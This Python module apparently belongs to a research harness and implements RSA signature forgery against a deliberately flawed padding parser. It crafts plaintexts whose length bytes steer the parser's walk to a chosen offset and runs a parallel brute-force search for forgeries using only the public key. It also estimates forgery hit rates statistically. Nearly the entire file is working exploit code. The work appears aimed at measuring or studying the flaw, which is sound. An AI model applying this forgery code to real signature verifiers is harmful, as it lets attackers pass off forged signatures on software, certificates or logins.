"""Exploit-signature production and hit-rate estimation.

Three routes to a signature whose decoded plaintext steers the flawed
walk to a chosen landing offset:

* `craft_exploit_plaintext` builds the plaintext directly (no key),
* `forge_with_private_key` signs a crafted plaintext with d (the test
  oracle; one attempt by construction),
* `brute_force_search` finds one with only the public key, walking the
  multiplicative chain y <- y*k mod n where k = r^e mod n.  After z
  steps y equals (r^z)^e mod n, so a hit at step z is signed by r^z
  without ever computing a root.  Each step also tests n - y, because
  with odd e the signature of n - y is simply n - r^z; that negation
  check costs a subtraction instead of a multiplication and nearly
  doubles throughput.

`estimate_hit_probability` measures the probability that a uniformly
random block satisfies a classification predicate.  Note the search
tests values uniform modulo n rather than uniform bit strings; for
full-size moduli the difference is at most the fraction cut off the top
byte, well inside the tolerance the acceptance band allows.
"""

from __future__ import annotations

import json
import multiprocessing
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Optional, TextIO

import numpy as np

from .modmath import RsaKeyPair, from_fixed_bytes, mod_exp, raw_sign, raw_verify, to_fixed_bytes
from .prng import ByteStream, derive_seed
from .sigparser import ParserConfig, ParserMode, make_classifier

__all__ = [
    "ForgeResult",
    "HitProbability",
    "craft_exploit_plaintext",
    "forge_with_private_key",
    "brute_force_search",
    "estimate_hit_probability",
    "draw_root",
    "write_forge_result",
]

# Canonical inner-skip length: with the terminator 33 bytes short of the
# landing offset, the walk reads headers at t+1..t+4 and skips 26 content
# bytes, the same tail shape as the published exploit block.
_PREFERRED_INNER_LEN = 0x1A

_STOP_CHECK_MASK = 0x3FF      # poll the stop flag every 1024 iterations
_COUNTER_SYNC_MASK = 0xFFF    # publish attempt counts every 4096 iterations


@dataclass(frozen=True)
class ForgeResult:
    signature: int
    plaintext: bytes
    landing_offset: int
    attempts: int
    elapsed: float
    negated: bool = False
    root: Optional[int] = None
    iterations: int = 0

    @property
    def block_length(self) -> int:
        return len(self.plaintext)

    def signature_bytes(self) -> bytes:
        return to_fixed_bytes(self.signature, self.block_length)

    def to_json_dict(self, seed: bytes) -> dict:
        return {
            "signature": self.signature_bytes().hex(),
            "landing_offset": self.landing_offset,
            "attempts": self.attempts,
            "elapsed_ms": int(self.elapsed * 1000),
            "seed": seed.hex(),
        }


def craft_exploit_plaintext(
    block_length: int, landing_offset: int, filler_seed: bytes | str
) -> bytes:
    """Deterministic plaintext whose walk lands exactly at `landing_offset`.

    Layout: 00 02, nonzero filler, terminator at t, headers, and a
    steering length byte L with t + 7 + L = landing_offset.  All bytes
    the walk never evaluates are filler from `filler_seed`.
    """
    if block_length < 8:
        raise ValueError("block_length must be at least 8 bytes")
    if not block_length <= landing_offset <= block_length + 127:
        raise ValueError(
            "landing offset must lie in the reachable window "
            f"[{block_length}, {block_length + 127}]"
        )
    t_low = max(2, landing_offset - 7 - 0xFF)
    t_high = min(block_length - 5, landing_offset - 7)
    if t_low > t_high:
        raise ValueError(
            f"no terminator position reaches offset {landing_offset:#x} "
            f"in a {block_length:#x}-byte block"
        )
    t = landing_offset - 7 - _PREFERRED_INNER_LEN
    t = min(max(t, t_low), t_high)
    inner_len = landing_offset - 7 - t

    stream = ByteStream(filler_seed)
    block = bytearray(stream.take_nonzero(block_length))
    block[0] = 0x00
    block[1] = 0x02
    block[t] = 0x00
    block[t + 1] = 0x30
    block[t + 3] = 0x30
    block[t + 4] = inner_len
    return bytes(block)


def forge_with_private_key(
    key: RsaKeyPair, landing_offset: int, seed: bytes | str
) -> ForgeResult:
    """Sign a crafted plaintext with d: a one-attempt exploit signature."""
    if key.d <= 0:
        raise ValueError("key has no private exponent")
    start = time.perf_counter()
    filler = seed
    for retry in range(64):
        plaintext = craft_exploit_plaintext(key.block_length, landing_offset, filler)
        m = from_fixed_bytes(plaintext)
        if m < key.n:
            signature = raw_sign(m, key)
            return ForgeResult(
                signature=signature,
                plaintext=plaintext,
                landing_offset=landing_offset,
                attempts=1,
                elapsed=time.perf_counter() - start,
            )
        filler = derive_seed(seed, "craft-retry", retry)
    raise RuntimeError("crafted plaintext exceeded the modulus 64 times")


def draw_root(seed: bytes | str, worker_index: int, n: int) -> int:
    """The search root a given worker derives from the run seed."""
    stream = ByteStream(derive_seed(seed, "search-worker", worker_index))
    return 2 + stream.int_below(n - 3)


def _emit_progress(out: TextIO, attempts: int, started: float) -> None:
    elapsed = time.perf_counter() - started
    rate = attempts / elapsed if elapsed > 0 else 0.0
    print(f"attempts={attempts} rate={rate:.0f} elapsed={elapsed:.1f}", file=out, flush=True)


def _run_chain(
    n: int,
    e: int,
    block_length: int,
    config: ParserConfig,
    worker_seed: bytes,
    worker_index: int,
    budget: int,
    stop_check=None,
    progress: Optional[TextIO] = None,
    verify_chain_every: int = 0,
    counter=None,
) -> Optional[ForgeResult]:
    """One multiplicative chain; returns a confirmed hit or None."""
    classify = make_classifier(config)
    stream = ByteStream(derive_seed(worker_seed, "search-worker", worker_index))
    r = 2 + stream.int_below(n - 3)
    k = mod_exp(r, e, n)
    top_byte_zero = 1 << (8 * block_length - 8)

    y = 1
    z = 0
    attempts = 0
    started = time.perf_counter()
    last_progress = started
    while attempts < budget:
        z += 1
        y = y * k % n
        attempts += 2

        hit_value = None
        landing = None
        # A candidate can only classify if its top byte is zero; the
        # integer compare stands in for decoding byte[0] every step.
        if y < top_byte_zero:
            landing = classify(to_fixed_bytes(y, block_length))
            if landing is not None:
                hit_value = y
        if landing is None:
            ny = n - y
            if ny < top_byte_zero:
                landing = classify(to_fixed_bytes(ny, block_length))
                if landing is not None:
                    hit_value = ny

        if landing is not None:
            negated = hit_value != y
            signature = pow(r, z, n)
            if negated:
                signature = (n - signature) % n
            # Every hit is confirmed by one full verify before release.
            if raw_verify(signature, (n, e)) != hit_value:
                raise RuntimeError("search hit failed verification; chain defect")
            if counter is not None:
                counter.value = attempts
            return ForgeResult(
                signature=signature,
                plaintext=to_fixed_bytes(hit_value, block_length),
                landing_offset=landing,
                attempts=attempts,
                elapsed=time.perf_counter() - started,
                negated=negated,
                root=r,
                iterations=z,
            )

        if verify_chain_every and z % verify_chain_every == 0:
            if y != pow(r, e * z, n):
                raise RuntimeError("multiplicative chain drifted from r^(e*z)")
        if z & _COUNTER_SYNC_MASK == 0:
            if counter is not None:
                counter.value = attempts
            if progress is not None:
                now = time.perf_counter()
                if now - last_progress >= 1.0:
                    _emit_progress(progress, attempts, started)
                    last_progress = now
        if stop_check is not None and z & _STOP_CHECK_MASK == 0 and stop_check():
            break
    if counter is not None:
        counter.value = attempts
    return None


def _worker_main(n, e, block_length, config, seed, index, budget, stop, results, counter):
    try:
        found = _run_chain(
            n, e, block_length, config, seed, index, budget,
            stop_check=stop.is_set, counter=counter,
        )
        if found is not None:
            results.put(found)
            stop.set()
    except Exception as exc:  # surfaced by the parent as a failed search
        results.put(exc)
        stop.set()


def brute_force_search(
    pub: tuple[int, int],
    config: ParserConfig,
    worker_count: int,
    seed: bytes | str,
    max_attempts: int,
    progress: Optional[TextIO] = None,
    verify_chain_every: int = 0,
) -> Optional[ForgeResult]:
    """Search for an exploit signature using only the public key.

    Workers run independent chains from seed-derived roots and share
    only a stop flag and the result slot; the first confirmed hit wins.
    With worker_count == 1 the search runs inline and the attempt
    sequence is a pure function of the seed.
    """
    n, e = pub
    if config.mode is not ParserMode.FLAWED:
        raise ValueError("the search targets the flawed parser")
    if worker_count < 1:
        raise ValueError("worker_count must be at least 1")
    if n.bit_length() < 16:
        raise ValueError("modulus too small to search against")
    block_length = (n.bit_length() + 7) // 8
    seed = seed if isinstance(seed, bytes) else bytes.fromhex(seed)

    if worker_count == 1:
        return _run_chain(
            n, e, block_length, config, seed, 0, max_attempts,
            progress=progress, verify_chain_every=verify_chain_every,
        )

    started = time.perf_counter()
    stop = multiprocessing.Event()
    results: multiprocessing.SimpleQueue = multiprocessing.SimpleQueue()
    counters = [multiprocessing.Value("q", 0, lock=False) for _ in range(worker_count)]
    share, extra = divmod(max_attempts, worker_count)
    workers = []
    for idx in range(worker_count):
        budget = share + (1 if idx < extra else 0)
        proc = multiprocessing.Process(
            target=_worker_main,
            args=(n, e, block_length, config, seed, idx, budget, stop, results, counters[idx]),
        )
        proc.start()
        workers.append(proc)

    last_progress = started
    while any(p.is_alive() for p in workers):
        time.sleep(0.05)
        if progress is not None:
            now = time.perf_counter()
            if now - last_progress >= 1.0:
                _emit_progress(progress, sum(c.value for c in counters), started)
                last_progress = now
    winner: Optional[ForgeResult] = None
    while not results.empty():
        item = results.get()
        if isinstance(item, Exception):
            raise item
        if winner is None:
            winner = item
    for proc in workers:
        proc.join()
    if winner is None:
        return None
    total_attempts = sum(c.value for c in counters)
    return ForgeResult(
        signature=winner.signature,
        plaintext=winner.plaintext,
        landing_offset=winner.landing_offset,
        attempts=total_attempts,
        elapsed=time.perf_counter() - started,
        negated=winner.negated,
        root=winner.root,
        iterations=winner.iterations,
    )


@dataclass(frozen=True)
class HitProbability:
    hits: int
    samples: int
    p_hat: float
    ci_low: float
    ci_high: float

    def to_json_dict(self) -> dict:
        return {
            "hits": self.hits,
            "samples": self.samples,
            "p_hat": self.p_hat,
            "ci_low": self.ci_low,
            "ci_high": self.ci_high,
        }


def _wilson_interval(hits: int, samples: int, z: float = 1.959964) -> tuple[float, float]:
    if samples == 0:
        return (0.0, 1.0)
    p = hits / samples
    zz = z * z
    denom = 1.0 + zz / samples
    center = (p + zz / (2 * samples)) / denom
    half = z * ((p * (1 - p) / samples + zz / (4 * samples * samples)) ** 0.5) / denom
    return (max(0.0, center - half), min(1.0, center + half))


def estimate_hit_probability(
    block_length: int,
    config: ParserConfig,
    samples: int,
    seed: bytes | str,
    chunk_size: int = 1 << 20,
) -> HitProbability:
    """Monte-Carlo estimate of Pr[predicate] over uniform random blocks.

    Blocks are drawn in bulk with a seeded PCG64 generator; candidates
    surviving the two-byte prefix filter are run through the full
    classifier.  With `require_walk` false in the config, only the
    prefix check counts (useful for calibrating the estimator against
    analytically known probabilities).
    """
    if samples < 10**5:
        raise ValueError("need at least 1e5 samples for a meaningful estimate")
    rng = np.random.default_rng(int.from_bytes(derive_seed(seed, "estimate"), "big"))
    classify = (
        make_classifier(config) if config.require_walk else None
    )
    allowed = sorted(config.block_types)

    hits = 0
    remaining = samples
    while remaining > 0:
        count = min(chunk_size, remaining)
        remaining -= count
        arr = rng.integers(0, 256, size=(count, block_length), dtype=np.uint8)
        mask = arr[:, 0] == 0
        type_mask = np.zeros(count, dtype=bool)
        for value in allowed:
            type_mask |= arr[:, 1] == value
        mask &= type_mask
        if classify is None:
            hits += int(mask.sum())
            continue
        for row in arr[mask]:
            if classify(row.tobytes()) is not None:
                hits += 1
    p_hat = hits / samples
    low, high = _wilson_interval(hits, samples)
    return HitProbability(hits=hits, samples=samples, p_hat=p_hat, ci_low=low, ci_high=high)


def write_forge_result(result: ForgeResult, base_path: str | Path, seed: bytes) -> tuple[Path, Path]:
    """Persist a search result: `<base>.sig` hex signature, `<base>.json` record."""
    base = Path(base_path)
    sig_path = base.with_suffix(".sig")
    json_path = base.with_suffix(".json")
    sig_path.write_text(result.signature_bytes().hex() + "\n")
    json_path.write_text(json.dumps(result.to_json_dict(seed), indent=2) + "\n")
    return sig_path, json_path
